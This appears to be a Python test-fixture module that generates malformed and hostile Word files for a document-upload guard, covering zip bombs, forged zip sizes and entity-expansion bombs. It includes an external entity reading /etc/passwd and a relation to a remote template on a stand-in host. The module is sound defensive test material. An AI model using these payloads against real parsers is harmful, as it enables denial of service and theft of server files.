"""Files as strangers, accidents and attackers make them, each made anew by a function.

``REFUSED`` gives each with a part of the sentence it must be refused with; ``READ_WHOLE`` those that look alarming
and are sound.
"""

import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO
from random import Random
from typing import Final

W_NS: Final = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
STRICT_NS: Final = "http://purl.oclc.org/ooxml/wordprocessingml/main"
_OFFICE: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_STRICT_OFFICE: Final = "http://purl.oclc.org/ooxml/officeDocument/relationships"
_TYPES: Final = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)


def relations(*ties: tuple[str, str], external: bool = False) -> str:
    """A relations part of (type, target) pairs."""
    mode = ' TargetMode="External"' if external else ""
    told = "".join(
        f'<Relationship Id="rId{number}" Type="{kind}" Target="{target}"{mode}/>'
        for number, (kind, target) in enumerate(ties, 1)
    )
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{told}</Relationships>'


def document(body: str, namespace: str = W_NS) -> str:
    """The main part around a body."""
    extra = (
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
        'xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" '
        'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
        'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" '
        'xmlns:v="urn:schemas-microsoft-com:vml" '
        'xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"'
    )
    return f'<w:document xmlns:w="{namespace}" {extra}><w:body>{body}</w:body></w:document>'


def paragraph(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def packed(parts: dict[str, str | bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of these parts."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", compression) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return out.getvalue()


def parts(
    body: str = paragraph("Hello"), *, main: str | None = None, strict: bool = False
) -> dict[str, str | bytes]:
    """The parts of the smallest Word file."""
    kind = f"{_STRICT_OFFICE if strict else _OFFICE}/officeDocument"
    return {
        "[Content_Types].xml": _TYPES,
        "_rels/.rels": relations((kind, "word/document.xml")),
        "word/document.xml": document(body, STRICT_NS if strict else W_NS) if main is None else main,
    }


def docx(body: str = paragraph("Hello"), **more: str | bytes) -> bytes:
    """A Word file with this body; further parts as ``footnotes=…`` (related to the main part by that word)."""
    ties = relations(*((f"{_OFFICE}/{kind}", f"{kind}.xml") for kind in more))
    added = {f"word/{kind}.xml": content for kind, content in more.items()}
    return packed({**parts(body), "word/_rels/document.xml.rels": ties, **added})


# --- refused ---------------------------------------------------------------------------------------------


def zip_bomb() -> bytes:
    return packed({**parts(), "word/media/image1.bin": b"\0" * 20_000_000})


def many_bombs() -> bytes:
    noise = Random(1)
    chunk = b"".join(noise.randbytes(2_000) + b"\0" * 40_000 for _ in range(480))
    return packed({**parts(), **{f"word/media/{number}.bin": chunk for number in range(7)}})


def thousands_of_parts() -> bytes:
    return packed({**parts(), **{f"word/x{number}.xml": "<x/>" for number in range(5_000)}})


def duplicate_names() -> bytes:
    out = BytesIO(docx())
    with zipfile.ZipFile(out, "a") as package:
        package.writestr("word/Document.xml", document(paragraph("Another")))
    return out.getvalue()


def entities() -> bytes:
    lol = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    declared = f'<!DOCTYPE w:document [<!ENTITY a0 "ha">{lol}]>'
    return packed(parts(main=declared + document(paragraph("&a9;"))))


def outside_entity() -> bytes:
    declared = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return packed(parts(main=declared + document(paragraph("&x;"))))


def hidden_document_type() -> bytes:
    """In UTF-16, where a search for the bytes "<!DOCTYPE" finds nothing."""
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x>' + document(paragraph("Hello"))
    return packed(parts(main="") | {"word/document.xml": text.encode("utf-16")})


def encrypted() -> bytes:
    """How Word stores a document with a password, and every .doc: an OLE file."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4_000


def encrypted_entries() -> bytes:
    """A zip whose entries say that they are encrypted."""
    data = bytearray(docx())
    for signature, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            data[at + flags] |= 1
            at = data.find(signature, at + 4)
    return bytes(data)


def truncated() -> bytes:
    whole = docx("".join(paragraph(f"Line {number}") for number in range(400)))
    return whole[: len(whole) // 2]


def huge_picture() -> bytes:
    """200 MB of picture in a file of a few hundred bytes: its size is only said."""
    return _with_said_size(200_000_000)


def lying_size() -> bytes:
    """An entry that says it is small, and is not."""
    return _with_said_size(1_000, real=50_000_000)


def _with_said_size(said: int, real: int = 1_000) -> bytes:
    data = bytearray(packed({**parts(), "word/media/image1.bin": b"\0" * real}))
    entry = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, entry + 24, said)
    return bytes(data)


def no_body() -> bytes:
    return packed(parts(main=f'<w:document xmlns:w="{W_NS}"/>'))


def no_main_part() -> bytes:
    held = parts()
    del held["word/document.xml"]
    return packed(held)


def spreadsheet() -> bytes:
    return packed(
        {
            "_rels/.rels": relations((f"{_OFFICE}/officeDocument", "xl/workbook.xml")),
            "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
        }
    )


def no_xml() -> bytes:
    return packed(parts(main="<w:document"))


def many_paragraphs() -> bytes:
    """300,000 paragraphs with a run each; the repetition alone compresses better than a real text can."""
    return docx("<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 300_000)


def many_elements() -> bytes:
    """More elements than are read, in a file that does not look packed."""
    varied = "".join(
        f'<w:p w:rsidR="{zlib.crc32(str(number).encode()):08x}"><w:r/></w:p>' for number in range(210_000)
    )
    return docx(varied)


def many_characters() -> bytes:
    words = " ".join(f"{zlib.crc32(str(number).encode()):x}" for number in range(400_000))
    return docx(paragraph(words))


def nested_without_end() -> bytes:
    return packed(parts(main=document("<w:sdt>" * 30_000 + "</w:sdt>" * 30_000)), zipfile.ZIP_STORED)


def not_a_zip() -> bytes:
    return b"PK\x03\x04 and then nothing of the kind" * 20


REFUSED: Final[dict[Callable[[], bytes], str]] = {
    zip_bomb: "grows more than 150 times",
    many_bombs: "over 120 MB",
    thousands_of_parts: "over 2,000",
    duplicate_names: "the same name",
    entities: "declares a document type",
    outside_entity: "declares a document type",
    hidden_document_type: "declares a document type",
    encrypted: "password-protected or an old .doc",
    encrypted_entries: "password",
    truncated: "damaged",
    huge_picture: "over 25 MB",
    lying_size: "damaged",
    no_main_part: "holds no Word document",
    no_xml: "no readable XML",
    many_paragraphs: "",
    many_elements: "over 400,000 elements",
    many_characters: "over 3,000,000 characters",
    nested_without_end: "levels deep",
    not_a_zip: "damaged",
}
"""What the package guard itself refuses."""

REFUSED_BY_READERS: Final[dict[Callable[[], bytes], str]] = {
    no_body: "no text",
    spreadsheet: "no Word document",
}
"""Sound packages that hold no text."""


# --- read whole ------------------------------------------------------------------------------------------


def nested_tables(depth: int = 500) -> bytes:
    return docx(
        f"<w:tbl><w:tr><w:tc>{paragraph('in')}" * depth
        + paragraph("deepest")
        + f"{paragraph('out')}</w:tc></w:tr></w:tbl>" * depth
    )


def deep_list() -> bytes:
    """A list 10,000 levels deep, as far as a file can say such a thing."""
    items = (
        f'<w:p><w:pPr><w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="1"/></w:numPr></w:pPr>'
        f"<w:r><w:t>level {level}</w:t></w:r></w:p>"
        for level in range(10_000)
    )
    return docx("".join(items))


def deep_controls(depth: int = 5_000) -> bytes:
    body = "<w:sdt><w:sdtContent>" * depth + paragraph("innermost") + "</w:sdtContent></w:sdt>" * depth
    return packed(parts(body), zipfile.ZIP_STORED)


def wide_span() -> bytes:
    return docx(
        '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="20000000"/></w:tcPr>'
        f"{paragraph('spanned')}</w:tc></w:tr></w:tbl>"
    )


def strict() -> bytes:
    return packed(parts(paragraph("strictly"), strict=True))


def macros() -> bytes:
    held = parts(paragraph("with macros"))
    held["[Content_Types].xml"] = _TYPES.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return packed({**held, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\1" * 500})


def outside_relations() -> bytes:
    ties = relations(
        (f"{_OFFICE}/attachedTemplate", "http://192.0.2.1/evil.dotm"),
        (f"{_OFFICE}/image", "file://192.0.2.1/share/x.png"),
        external=True,
    )
    return packed({**parts(paragraph("calls home")), "word/_rels/document.xml.rels": ties})


def empty_paragraphs() -> bytes:
    """As many as are allowed, in a file of a few hundred kilobytes."""
    body = "".join(f'<w:p w:rsidR="{zlib.crc32(str(n).encode()):08x}"/>' for n in range(300_000))
    return docx(body + paragraph("the only one"))


READ_WHOLE: Final[dict[Callable[[], bytes], str]] = {
    nested_tables: "deepest",
    deep_list: "level 9999",
    deep_controls: "innermost",
    wide_span: "spanned",
    strict: "strictly",
    macros: "with macros",
    outside_relations: "calls home",
    empty_paragraphs: "the only one",
}
